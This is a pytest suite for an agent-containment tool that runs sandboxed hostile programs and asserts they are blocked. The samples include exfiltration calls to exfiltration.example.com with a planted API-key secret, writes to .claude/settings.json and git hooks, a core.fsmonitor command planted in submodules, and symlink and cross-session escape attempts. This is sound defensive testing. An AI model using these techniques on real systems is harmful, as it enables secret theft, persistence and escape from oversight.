"""Contained commands: what a hostile program can reach, when containment is refused, and what remains after a run."""

import asyncio
import json
import shutil
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from remit import Remit
from remit.agents.containment import container
from support.audit import audit_log
from support.cli import run
from support.containment import SECRET, victim
from support.pace import until
from support.repository import all_committed, git
from support.sandboxes import probe

needs_bubblewrap = pytest.mark.skipif(not probe().has_bubblewrap, reason="bubblewrap does not work here")


def project_with(folder: Path, **agents: dict[str, Any]) -> Path:
    project = folder / "project"
    project.mkdir(parents=True)
    lines = []
    for name, table in agents.items():
        lines += [f"[agents.{name}]", *(f"{key} = {json.dumps(value)}" for key, value in table.items())]
    (project / "remit.toml").write_text("\n".join(lines) + "\n")
    (project / ".gitignore").write_text(".remit/\n")
    return project


def command(*words: str, **more: Any) -> dict[str, Any]:
    return {"command": list(words), "contain": True, "answers": "value", **more}


# ---- attacks from inside


@needs_bubblewrap
async def test_contained_program_cannot_reach_the_host_and_its_work_is_harvested(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """In the project itself and in a worktree of it."""
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    project = project_with(
        tmp_path,
        shared=command(sys.executable, "attack.py", hosts=["example.com"]),
        apart=command(sys.executable, "attack.py", workspace="worktree", merge=True),
        free=command(sys.executable, "attack.py", contain=False),
    )
    async with victim(tmp_path, project) as host:
        monkeypatch.setenv("HOME", str(host.home))
        host.arm()
        all_committed(project)
        host.seal()
        async with Remit.open(project) as remit:
            first = await remit.delegate("shared", task="Attack.", timeout=60)
            assert first.status == "completed", first
            host.check(project / "report.json")
            for name in ("report.json", "made.txt"):
                (project / name).unlink()
            second = await remit.delegate("apart", task="Attack.", timeout=60)
            assert second.status == "completed", second
            host.check(project / "report.json")  # merged
            said = [event.body.get("message", "") for event in await remit.events(first.session_id)]
            await remit.delegate("free", task="Attack.", timeout=60)
            host.check_attacks(project / "report.json")
        assert any(message.startswith("Contained by bubblewrap") for message in said), said
        denied = [one for one in audit_log(project) if one.get("rules") == ["hosts"]]
        assert {"exfiltration.example.com", "127.0.0.1", "localhost"} <= {one["facts"]["host"] for one in denied}
        assert {one["verdict"] for one in denied} == {"deny"}
        assert "exfiltration.example.com" in run("audit", "--limit", "200", "--json", cwd=project).stdout
        shown = run("show", first.session_id, "--events", cwd=project)
        assert "Contained by bubblewrap" in shown.stdout


@needs_bubblewrap
async def test_workspace_is_read_only_for_an_agent_without_write_access(tmp_path: Path) -> None:
    script = "echo x > owned.txt; echo y > $REMIT_SCRATCH/note.txt && cat remit.toml | head -c 8"
    project = project_with(tmp_path, reader=command("sh", "-c", script, workspace="none"))
    async with Remit.open(project) as remit:
        result = await remit.delegate("reader", task="Look.", timeout=30)
    assert (result.status, result.data) == ("completed", "[agents.")
    assert not (project / "owned.txt").exists()


@needs_bubblewrap
async def test_files_that_start_programs_cannot_be_changed_in_the_project(tmp_path: Path) -> None:
    """The next start of an editor or Claude Code would run code that the agent wrote. In a worktree the change is only a diff."""
    script = "for f in .claude/settings.json remit.toml .envrc pyproject.toml notes.md; do echo owned >> $f; done; mkdir .vscode; true"
    project = project_with(tmp_path, one=command("sh", "-c", script))
    (project / ".claude").mkdir()
    for name in (".claude/settings.json", ".envrc", "pyproject.toml", "notes.md"):
        (project / name).write_text("")
    async with Remit.open(project) as remit:
        result = await remit.delegate("one", task="Write.", timeout=30)
        said = [str(event.body.get("message", "")) for event in await remit.events(result.session_id)]
    assert result.status == "completed", result
    written = [path.name for path in project.rglob("*") if path.is_file() and ".remit" not in path.parts and "owned\n" in path.read_text()]
    assert sorted(written) == ["notes.md", "pyproject.toml"]
    assert [message for message in said if message.startswith("It created .vscode")], said


@needs_bubblewrap
async def test_only_a_delegating_agent_reaches_the_process_that_owns_its_tree(tmp_path: Path) -> None:
    """Otherwise an uncontained agent of the project could act on its behalf."""
    look = "echo ${REMIT_CALLER:+token}; ls -A .remit/run 2>/dev/null | wc -l"
    project = project_with(tmp_path, alone=command("sh", "-c", look), caller=command("sh", "-c", look, delegates=True))
    async with Remit.open(project) as remit:
        alone = await remit.delegate("alone", task="Look.", timeout=30)
        caller = await remit.delegate("caller", task="Look.", timeout=30)
    assert (alone.data, caller.data) == ("0", "token\n1")


ATTACHED = """
import asyncio
from pathlib import Path
from remit import Remit, RemitError

async def main():
    async with Remit.open(".") as remit:
        print((await remit.delegate("worker.web_fetch", url="https://exfiltration.example.com/?content")).errors[0].code)
        try:
            await remit.cancel(Path("other.txt").read_text(), "mine")
        except RemitError as error:
            print(error.code)

asyncio.run(main())
"""


@needs_bubblewrap
async def test_delegating_agent_cannot_send_data_out_or_cancel_other_trees(tmp_path: Path) -> None:
    project = project_with(tmp_path, caller=command(sys.executable, "-c", ATTACHED, delegates=True), other=command("sleep", "60"))
    async with Remit.open(project) as remit:
        other = await remit.start("other", task="Work.", timeout=60)
        (project / "other.txt").write_text(other.session_id)
        result = await remit.delegate("caller", task="Attack.", timeout=60)
        assert (await remit.describe(other.session_id)).state == "running"
        await other.cancel()
    assert result.data.splitlines() == ["POLICY_DENIED", "FORBIDDEN"], result


@needs_bubblewrap
async def test_git_repository_cannot_be_created_from_inside(tmp_path: Path) -> None:
    """Its hooks and settings would run the next time the user runs git there. Inside an existing repository, git can still read it."""
    script = "git init -q . ; mkdir -p .git/hooks; echo x > .git/config; rm -rf .git; git -C .. rev-parse --is-inside-work-tree; ls -A .git"
    project = project_with(tmp_path, maker=command("sh", "-c", script))
    async with Remit.open(project) as remit:
        alone = await remit.delegate("maker", task="Make one.", timeout=30)
        (project / "remit.toml").rename(project / "sub.toml")
    assert (alone.status, alone.data) == ("completed", "")
    assert not (project / ".git").exists()
    below = project / "sub"
    below.mkdir()
    (project / "sub.toml").rename(below / "remit.toml")
    all_committed(project)
    async with Remit.open(below) as remit:
        inside = await remit.delegate("maker", task="Make one.", timeout=30)
    assert (inside.status, inside.data) == ("completed", "true")
    assert not (below / ".git").exists()


@needs_bubblewrap
async def test_git_hooks_in_the_project_cannot_be_changed(tmp_path: Path) -> None:
    """Hooks in `core.hooksPath` run at the next commit of the user or of the board."""
    plant = "mv dev moved; mkdir -p dev/hooks; echo owned > dev/hooks/commit-msg; echo owned >> dev/hooks/pre-commit; echo x > dev/x.txt"
    project = project_with(tmp_path, maker=command("sh", "-c", f"{plant}; true"), reader=command("true"))
    (project / "dev/hooks").mkdir(parents=True)
    (project / "dev/hooks/pre-commit").write_text("#!/bin/sh\n")
    all_committed(project)
    git(project, "config", "core.hooksPath", "dev/hooks")
    async with Remit.open(project) as remit:
        assert (await remit.delegate("maker", task="Make.", timeout=30)).status == "completed"
        assert (await remit.delegate("reader", task="Look.", accept=[f"{plant}; true"], timeout=30)).status == "completed"
    assert {path.name: path.read_text() for path in (project / "dev/hooks").iterdir()} == {"pre-commit": "#!/bin/sh\n"}
    assert (project / "dev/x.txt").read_text() == "x\n"


@needs_bubblewrap
async def test_prompt_of_the_second_turn_does_not_follow_a_symlink(tmp_path: Path) -> None:
    """The prompt quotes the first answer, so the agent would control the content of a file outside."""
    outside = tmp_path / "outside"
    outside.mkdir()
    script = f"rm -rf $REMIT_SCRATCH/.given; ln -s {outside} $REMIT_SCRATCH/.given; echo '{{}}'"
    project = project_with(tmp_path, one=command("sh", "-c", script, answers="return", prompt="file"))
    async with Remit.open(project) as remit:
        result = await remit.delegate("one", task="Answer.", timeout=30)
    assert not result.ok
    assert list(outside.iterdir()) == []


@needs_bubblewrap
async def test_submodule_repositories_cannot_be_changed(tmp_path: Path) -> None:
    """`git status` in the project would run commands from the settings of a submodule. One is checked out, one is not."""
    marker = tmp_path / "ran"
    plant = (
        "mv lib moved; for d in lib/one lib/two; do rm -rf $d/.git; mkdir -p $d; git init -q $d; "
        f"git -C $d config core.fsmonitor 'touch {marker}; false'; echo x > $d/made.txt; done; true"
    )
    project = project_with(tmp_path, maker=command("sh", "-c", plant), reader=command("true"))
    for name in ("one", "two"):
        (project / "lib" / name).mkdir(parents=True)
        (project / "lib" / name / "x.txt").write_text("x")
        all_committed(project / "lib" / name)
    all_committed(project)
    shutil.rmtree(project / "lib" / "two" / ".git")
    async with Remit.open(project) as remit:
        assert (await remit.delegate("maker", task="Make.", timeout=30)).status == "completed"
        await remit.delegate("reader", task="Look.", accept=[plant], timeout=30)
    git(project, "status")
    assert not marker.exists()
    assert [(project / "lib" / name / "made.txt").read_text() for name in ("one", "two")] == ["x\n", "x\n"]
    assert not (project / "lib/two/.git").exists()


@needs_bubblewrap
async def test_allowed_hosts_are_reachable_through_the_proxy_and_as_ports(tmp_path: Path) -> None:
    """An allowed port of this machine is available at the container's loopback address. Other hosts are refused with a reason.

    The project path is longer than a Unix socket address can be."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readline()
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello")
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    fetch = (
        "import sys, urllib.request as u, urllib.error as e\n"
        f"print(u.urlopen('http://127.0.0.1:{port}/').read().decode())\n"
        "try: u.urlopen('https://example.com/')\n"
        "except e.URLError as error: print(error.reason)\n"
    )
    project = project_with(tmp_path / ("deep" * 30), fetcher=command(sys.executable, "-c", fetch, hosts=[f"127.0.0.1:{port}"]))
    async with server, Remit.open(project) as remit:
        result = await remit.delegate("fetcher", task="Fetch.", timeout=30)
    assert result.status == "completed", result
    hello, refusal = result.data.splitlines()
    assert hello == "hello"
    assert "403" in refusal


@needs_bubblewrap
async def test_contained_program_gets_a_signal_and_is_killed_at_its_deadline(tmp_path: Path) -> None:
    """Signals reach the program rather than bubblewrap. No process remains, not even one in a new session."""
    script = (
        "import json, os, signal, subprocess, sys, time\n"
        "subprocess.Popen(['sleep', '3600'], start_new_session=True)\n"
        "def told(*_):\n    open('told.txt', 'w').write('told'); time.sleep(3600)\n"
        "signal.signal(signal.SIGTERM, told)\n"
        "open('up.txt', 'w').write('up')\n"
        "time.sleep(3600)\n"
    )
    project = project_with(tmp_path, sitter=command(sys.executable, "-c", script, answers="return"))
    async with Remit.open(project) as remit:
        handle = await remit.start("sitter", task="Sit.", timeout=60)
        await until((project / "up.txt").exists)
        running = remit.engine.live()[handle.session_id]
        running.look(running.delegation.deadline.soft_at)
        await until((project / "told.txt").exists)
        await handle.cancel("enough")
        result = await asyncio.wait_for(handle.result(), 20)
        assert result.stop_reason == "cancelled"
    assert not [line for line in _command_lines() if handle.session_id in line]


def _command_lines() -> list[str]:
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        try:
            found.append((process / "environ").read_bytes().decode("latin-1") + (process / "cmdline").read_bytes().decode("latin-1"))
        except OSError:
            continue
    return found


# ---- refused configurations


@needs_bubblewrap
async def test_workspace_that_contains_the_home_directory_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The whole home would be writable inside. A workspace whose `.git` is a symlink is refused too: the agent could replace it."""
    project = project_with(tmp_path, one=command("sh", "-c", "echo ran > ran.txt"))
    async with Remit.open(project) as remit:
        with monkeypatch.context() as patched:
            patched.setenv("HOME", str(project))
            at_home = await remit.delegate("one", task="Run.", timeout=30)
        (project / ".git").symlink_to(tmp_path)
        linked = await remit.delegate("one", task="Run.", timeout=30)
    assert "contains your home directory" in at_home.errors[0].message
    assert "is a link" in linked.errors[0].message
    assert not (project / "ran.txt").exists()


@pytest.mark.parametrize("contain", [True, "auto"])
async def test_missing_bubblewrap_refuses_or_is_recorded_as_uncontained(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, contain: bool | str
) -> None:
    monkeypatch.setattr(container, "probe", lambda: replace(probe(), bubblewrap=None))
    project = project_with(tmp_path, one=command("sh", "-c", "echo ran > ran.txt", contain=contain))
    async with Remit.open(project) as remit:
        result = await remit.delegate("one", task="Run.", timeout=30)
        said = [str(event.body.get("message", "")) for event in await remit.events(result.session_id)]
    if contain is True:
        assert (result.status, result.errors[0].code) == ("blocked", "TOOL_UNAVAILABLE")
        assert "bubblewrap is not installed" in result.errors[0].message
        assert not (project / "ran.txt").exists()
    else:
        assert result.status == "completed"
        assert [message for message in said if message.startswith("Not contained: bubblewrap is not installed")]
